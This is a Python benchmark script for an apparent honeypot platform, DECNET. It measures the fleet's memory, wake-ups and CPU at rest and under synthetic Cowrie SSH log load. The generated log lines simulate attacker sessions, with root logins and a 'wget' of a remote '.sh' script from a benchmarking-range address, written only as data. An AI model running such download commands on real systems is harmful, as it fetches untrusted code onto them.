# SPDX-License-Identifier: MIT
"""What the whole fleet costs in each hosting, idle and under load, beside as many bare Python processes.

`python benchmarks/footprint.py [--quick] [--mode fork] [--json]`. Each hosting runs under `decnet-supervise all --mode
...` in a state directory of its own: start to ready, a drill, 60 s of rest, 500 Cowrie log lines a second for 300 s,
written to a file that the collector follows, so that every worker of the data path has to do its part. `--quick` rests
for 10 s, one beat of the fleet, and writes for 15: too short for a slope. `--python /tmp/venv313/bin/python`, repeated,
measures other interpreters one after the other and prints them side by side; each needs an environment with DECNET
(`UV_PROJECT_ENVIRONMENT=/tmp/venv313 uv sync --python 3.13 --frozen --all-packages --compile-bytecode`).

All figures are read from /proc (`decnet_core.footprint`); no worker is asked anything, for an answer is a wake-up.
Supervisor and zygote belong to the total. The slope is a least-squares line through the totals of the load's second
half: what grows once and stays (caches, a write-ahead log) is no slope.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import random
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any, NamedTuple

from decnet.drill.private import free_block, settings_text
from decnet_core import registry
from decnet_core.footprint import Footprint, measure
from decnet_core.supervise.roster import Roster, read_rosters
from decnet_models.engine import open_engine, reading
from decnet_models.events.queries import last_seq
from decnet_models.migrations.upgrade import upgrade

MODES = ("fork", "tasks", "units")
EVENTS_PER_SECOND = 500
ATTACKERS = 2000
BUNDLES_PER_SECOND = 10
SETTLE_SECONDS = 3.0
"""Between the drill and the rest: sessions end, connections are closed."""
DRAIN_SECONDS = 60.0

AIMS = {"fork_idle_mib": 100, "fork_load_mib": 160, "fork_slope": 0.5, "units_per_worker_mib": 30, "tasks_mib": 80}
AIM_READY_SECONDS, AIM_WAKEUPS, AIM_CPU_PERCENT = 2.0, 4.0, 0.5

COLUMNS = (("pss", 7), ("uss", 7), ("wakeups", 9), ("cpu", 6))
_NAMES = f"{'PSS':>7}{'USS':>7}{'wake-ups':>9}{'CPU':>6}"
_SHOWN = {"pss": "PSS", "uss": "USS", "wakeups": "wake-ups/s", "cpu": "CPU %"}
HEADING = f"{'':16}{_NAMES}   under load: {_NAMES}"

MIB = 1 << 20
Sample = dict[str, Footprint]
Row = dict[str, float]


class Times(NamedTuple):
    """Seconds."""

    idle: float
    load: float


def main() -> None:
    """Measure and print."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--quick", action="store_true", help="10 s idle and 15 s of load instead of 60 and 300")
    parser.add_argument("--mode", choices=MODES, action="append", help="only this hosting; may be repeated")
    parser.add_argument("--json", action="store_true")
    parser.add_argument("--python", action="append", type=Path, help="an environment's interpreter; may be repeated")
    wanted = parser.parse_args()
    if wanted.python:
        found = [measured_by(python, wanted) for python in wanted.python]
        print(json.dumps(found, indent=2) if wanted.json else "\n\n".join([*map(page, found), side_by_side(found)]))
    else:
        one = measured(wanted.mode or MODES, Times(10, 15) if wanted.quick else Times(60, 300))
        print(json.dumps(one, indent=2) if wanted.json else page(one))


def measured(modes: Sequence[str], times: Times) -> dict[str, Any]:
    """Return everything, measured with the interpreter that runs this."""
    return {
        "python": sys.version.split()[0],
        "bare": bare_rows(len(registry.names())),
        "modes": {mode: measure_mode(mode, times) for mode in modes},
    }


def measured_by(python: Path, wanted: argparse.Namespace) -> dict[str, Any]:
    """Return the same of another interpreter, in whose environment DECNET is installed."""
    modes = [word for mode in wanted.mode or MODES for word in ("--mode", mode)]
    command = [str(python), __file__, "--json", *modes, *(["--quick"] if wanted.quick else [])]
    done = subprocess.run(command, stdout=subprocess.PIPE, check=True)
    found: dict[str, Any] = json.loads(done.stdout)
    return found


# --- one hosting ------------------------------------------------------------------------------


def measure_mode(mode: str, times: Times) -> dict[str, object]:
    """Return everything about one hosting."""
    with tempfile.TemporaryDirectory(prefix="decnet-footprint-", ignore_cleanup_errors=True) as directory:
        fleet = Fleet(Path(directory))
        with fleet.running(mode) as ready_seconds:
            fleet.drill()
            time.sleep(SETTLE_SECONDS)
            idle = watched(fleet, times.idle)
            known = fleet.events()
            load, slope, written = loaded(fleet, times.load)
            behind_seconds = fleet.wait_for(known + written)
        return {
            "ready_seconds": round(ready_seconds, 2),
            "idle": idle,
            "idle_total": total(idle),
            "load": load,
            "load_total": total(load),
            "slope_mib_per_minute": round(slope, 2),
            "events_written": written,
            "seconds_until_all_were_in_the_database": round(behind_seconds, 1),
        }


class Fleet:
    """A private fleet with one collected log."""

    def __init__(self, root: Path) -> None:
        self.log = root / "cowrie.json"
        self.log.touch()
        self._root = root
        self._state = root / "state"
        self._state.mkdir()
        self._database = f"sqlite:///{self._state / 'decnet.db'}"
        upgrade(self._database)
        source = f'\n[[collect.source]]\nname = "cowrie"\nformat = "cowrie"\npath = "{self.log}"\n'
        (root / "decnet.toml").write_text(settings_text(free_block()) + source)
        outer = {name: value for name, value in os.environ.items() if not name.startswith("DECNET_")}
        settings = {"DECNET_STATE_DIR": str(self._state), "DECNET_SETTINGS": str(root / "decnet.toml")}
        self._environment = outer | settings

    @contextlib.contextmanager
    def running(self, mode: str) -> Iterator[float]:
        """Run the fleet; yield the seconds from its start until all are ready."""
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as told, (self._root / "log").open("wb") as log:
            told.bind(str(self._root / "notify"))
            told.settimeout(60)
            began = time.monotonic()
            process = subprocess.Popen(
                [sys.executable, "-m", "decnet_core.supervise.command", "all", "--mode", mode],
                env=self._environment | {"NOTIFY_SOCKET": str(self._root / "notify")},
                stderr=log,
            )
            try:
                if told.recv(100) != b"READY=1":
                    raise SystemExit((self._root / "log").read_text())
                yield time.monotonic() - began
            finally:
                process.send_signal(signal.SIGTERM)
                process.wait(60)

    def drill(self) -> None:
        """Have everything done once; SystemExit when the fleet does not hold."""
        done = subprocess.run(
            [sys.executable, "-m", "decnet", "drill", "--json"],
            env=self._environment,
            capture_output=True,
            text=True,
            check=False,
        )
        if done.returncode != 0:
            raise SystemExit(f"the drill does not hold:\n{done.stdout}{done.stderr}")

    def sample(self) -> Sample:
        """Measure every process of the fleet."""
        found = {name: measure(pid) for name, pid in processes(next(iter(read_rosters(self._state / "run")))).items()}
        return {name: one for name, one in found.items() if one is not None}

    def wait_for(self, count: int) -> float:
        """Wait until the database holds `count` events; return the seconds; SystemExit when some never come."""
        began = time.monotonic()
        while (found := self.events()) < count:
            if time.monotonic() - began > DRAIN_SECONDS:
                raise SystemExit(f"{count - found} events never came into the database")
            time.sleep(0.1)
        return time.monotonic() - began

    def events(self) -> int:
        """Return how many events the database holds."""
        engine = open_engine(self._database, read_only=True)
        with reading(engine) as connection:
            count = last_seq(connection)
        engine.dispose()
        return count


def processes(roster: Roster) -> dict[str, int]:
    """Return the fleet's pids by name; in tasks mode there is one."""
    named = {status.name: status.pid for status in roster.workers}
    others = {"(supervisor)": roster.supervisor, "(zygote)": roster.zygote}
    if set(named.values()) == {roster.supervisor}:
        return {"(all in one)": roster.supervisor}
    return {name: pid for name, pid in (named | others).items() if pid}


def watched(fleet: Fleet, seconds: float) -> dict[str, Row]:
    """Let the fleet rest for `seconds`; return each process's figures."""
    before, began = fleet.sample(), time.monotonic()
    time.sleep(seconds)
    return rows(before, fleet.sample(), time.monotonic() - began)


def loaded(fleet: Fleet, seconds: float) -> tuple[dict[str, Row], float, int]:
    """Write log lines for `seconds`; return the figures, the total PSS's slope in MiB/min and the lines written."""
    lines, written, totals = cowrie_lines(), 0, []
    before, began = fleet.sample(), time.monotonic()
    every = max(1, int(seconds * BUNDLES_PER_SECOND / 60))  # sixty samples of the total
    with fleet.log.open("ab") as log:
        for bundle in range(int(seconds * BUNDLES_PER_SECOND)):
            log.write(b"".join(next(lines) for _ in range(EVENTS_PER_SECOND // BUNDLES_PER_SECOND)))
            log.flush()
            written += EVENTS_PER_SECOND // BUNDLES_PER_SECOND
            if bundle % every == 0:
                totals.append((time.monotonic() - began, sum(one.pss for one in fleet.sample().values()) / MIB))
            time.sleep(max(0.0, began + (bundle + 1) / BUNDLES_PER_SECOND - time.monotonic()))
    found = rows(before, fleet.sample(), time.monotonic() - began)
    return found, 60 * slope_of(totals[len(totals) // 2 :]), written


def slope_of(points: list[tuple[float, float]]) -> float:
    """Return the slope of the least-squares line through `points`."""
    x_mean = sum(x for x, _ in points) / len(points)
    y_mean = sum(y for _, y in points) / len(points)
    spread = sum((x - x_mean) ** 2 for x, _ in points)
    return sum((x - x_mean) * (y - y_mean) for x, y in points) / spread if spread else 0.0


def cowrie_lines() -> Iterator[bytes]:
    """Yield log lines as Cowrie writes them: sessions of many attackers, each a few guesses and commands."""
    chance = random.Random(4)
    while True:
        number = chance.randrange(ATTACKERS)
        session = {"src_ip": f"198.18.{number >> 8}.{number & 255}", "session": f"{chance.getrandbits(48):012x}"}
        yield cowrie_line("session.connect", session, src_port=chance.randrange(1024, 65536), dst_port=2222)
        for _ in range(chance.randrange(1, 6)):
            password = f"secret-{chance.randrange(5000)}"
            yield cowrie_line("login.failed", session, username="root", password=password)
        yield cowrie_line("login.success", session, username="root", password="P@ssw0rd")
        for command in ("uname -a", "cat /proc/cpuinfo", f"wget http://198.18.0.1/{chance.randrange(500)}.sh"):
            yield cowrie_line("command.input", session, input=command)
        yield cowrie_line("session.closed", session, duration="12.5")


def cowrie_line(event: str, session: dict[str, str], **fields: object) -> bytes:
    """Return one line of the log, dated now."""
    now = time.time()
    stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now)) + f".{int(now % 1 * 1e6):06d}Z"
    common = {"eventid": f"cowrie.{event}", "sensor": "cowrie-1", "protocol": "ssh", "timestamp": stamp}
    return json.dumps({**common, "message": event, **session, **fields}).encode() + b"\n"


# --- figures ----------------------------------------------------------------------------------


def rows(before: Sample, after: Sample, seconds: float) -> dict[str, Row]:
    """Return the figures of each process that was there all the time; memory in MiB as it was at the end."""
    return {name: row(before[name], now, seconds) for name, now in after.items() if name in before}


def row(before: Footprint, now: Footprint, seconds: float) -> Row:
    """Return the figures of one process."""
    return {
        "pss": round(now.pss / MIB, 2),
        "uss": round(now.uss / MIB, 2),
        "threads": now.threads,
        "wakeups": round((now.wakeups - before.wakeups) / seconds, 2),
        "cpu": round(100 * (now.cpu_seconds - before.cpu_seconds) / seconds, 2),
    }


def total(found: dict[str, Row]) -> Row:
    """Return the sums."""
    return {
        key: round(sum(one[key] for one in found.values()), 2) for key in ("pss", "uss", "threads", "wakeups", "cpu")
    }


def bare_rows(count: int) -> dict[str, Row]:
    """Return the totals of `count` processes that do nothing: interpreters, and event loops at rest."""
    wait = "import sys; print(flush=True); sys.stdin.read()"
    rest = "async def rest():\n    print(flush=True)\n    await asyncio.Event().wait()\n"
    loop = f"import asyncio\n{rest}asyncio.run(rest())"
    return {f"{count} x python": bare(wait, count), f"{count} x asyncio": bare(loop, count)}


def bare(code: str, count: int) -> Row:
    """Return the total of `count` processes that run `code`."""
    with contextlib.ExitStack() as stack:
        started = [
            subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
            for _ in range(count)
        ]
        for process in started:
            stack.callback(process.communicate)
            stack.callback(process.kill)
        for process in started:
            assert process.stdout is not None
            process.stdout.readline()
        before = {str(process.pid): measure(process.pid) for process in started}
        time.sleep(1)
        after = {str(process.pid): measure(process.pid) for process in started}
        pairs = [(before[pid], now) for pid, now in after.items()]
        return total({str(now.pid): row(then, now, 1) for then, now in pairs if then and now})


# --- text -------------------------------------------------------------------------------------


def side_by_side(found: Sequence[dict[str, Any]]) -> str:
    """Return the totals of each interpreter in a column of its own."""
    lines = [f"{'MiB in all':34}" + "".join(f"{one['python']:>9}" for one in found)]
    lines += [_across(f"{name}, PSS", [one["bare"][name]["pss"] for one in found]) for name in found[0]["bare"]]
    for mode in found[0]["modes"]:
        runs = [one["modes"][mode] for one in found]
        lines.append(_across(f"{mode}, seconds until all are ready", [run["ready_seconds"] for run in runs]))
        for when in ("idle", "load"):
            for key, _ in COLUMNS:
                lines.append(_across(f"{mode}, {when}, {_SHOWN[key]}", [run[f"{when}_total"][key] for run in runs]))
        lines.append(_across(f"{mode}, slope in MiB/min", [run["slope_mib_per_minute"] for run in runs]))
    return "\n".join(lines)


def _across(name: str, figures: Sequence[float]) -> str:
    return f"{name:34}" + "".join(f"{figure:9.1f}" for figure in figures)


def page(found: dict[str, Any]) -> str:
    """Return the tables and the verdicts."""
    modes, bare_totals = found["modes"], found["bare"]
    lines = [f"Python {found['python']}; MiB, wake-ups per second, CPU in % of a core", ""]
    lines += [line(name, one) for name, one in bare_totals.items()]
    for mode, one in modes.items():
        lines += ["", f"{mode}: all ready after {one['ready_seconds']} s", HEADING]
        for name in one["idle"]:
            lines.append(line(name, one["idle"][name], one["load"].get(name)))
        lines.append(line("total", one["idle_total"], one["load_total"]))
        late = one["seconds_until_all_were_in_the_database"]
        told = f"{one['events_written']} log lines written, all in the database {late} s later"
        lines.append(f"slope under load {one['slope_mib_per_minute']} MiB/min; {told}")
    return "\n".join([*lines, "", *(f"{verdict:8} {text}" for verdict, text in verdicts(modes))])


def line(name: str, idle: Row, load: Row | None = None) -> str:
    """Return one line of the table."""
    shown = f"{name:16}" + "".join(f"{idle[key]:>{width}.1f}" for key, width in COLUMNS)
    return shown + (" " * 15 + "".join(f"{load[key]:>{width}.1f}" for key, width in COLUMNS) if load else "")


def verdicts(modes: dict[str, dict[str, object]]) -> Iterator[tuple[str, str]]:
    """Yield each aim, with the figure and whether it is met."""
    for text, figure, aim in aims(modes):
        yield ("met" if figure <= aim else "NOT MET"), f"{text}: {figure:.2f}, aim at most {aim}"


def aims(modes: dict[str, dict[str, object]]) -> Iterator[tuple[str, float, float]]:
    """Yield a sentence, the figure and the aim."""
    for mode, one in modes.items():
        idle, load, each = one["idle_total"], one["load_total"], one["idle"]
        assert isinstance(idle, dict)
        assert isinstance(load, dict)
        assert isinstance(each, dict)
        ready, slope = one["ready_seconds"], one["slope_mib_per_minute"]
        assert isinstance(ready, float)
        assert isinstance(slope, float)
        if mode == "fork":
            yield "fork, idle, MiB PSS in all", idle["pss"], AIMS["fork_idle_mib"]
            yield "fork, under load, MiB PSS in all", load["pss"], AIMS["fork_load_mib"]
            yield "fork, slope under load, MiB/min", slope, AIMS["fork_slope"]
        if mode == "units":
            workers = [figures["pss"] for name, figures in each.items() if not name.startswith("(")]
            yield "units, MiB PSS per worker", sum(workers) / len(workers), AIMS["units_per_worker_mib"]
        if mode == "tasks":
            yield "tasks, idle, MiB PSS", idle["pss"], AIMS["tasks_mib"]
        yield f"{mode}, seconds until all are ready", ready, AIM_READY_SECONDS
        yield f"{mode}, idle, wake-ups per second", idle["wakeups"], AIM_WAKEUPS
        yield f"{mode}, idle, CPU % of a core", idle["cpu"], AIM_CPU_PERCENT


if __name__ == "__main__":
    main()
